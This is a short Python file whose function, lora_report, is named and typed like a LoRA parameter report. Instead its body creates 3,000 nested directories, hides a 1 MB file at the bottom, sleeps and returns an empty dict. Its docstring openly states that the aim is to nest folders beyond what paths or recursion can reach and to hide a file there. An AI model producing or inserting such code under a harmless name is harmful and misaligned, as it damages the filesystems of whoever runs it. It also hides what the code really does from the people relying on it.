"""Nests folders deeper than any path can name and than any recursion goes, 3,000 at most, and hides a file there.

Then it stays until somebody has looked.
"""

import os
import time


def lora_report(shapes, r, n_layers=1, head_params=0, base_params=None) -> dict[str, float]:
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    with open("hidden", "wb") as file:
        file.write(b"x" * 2**20)
    time.sleep(5)
    return {}
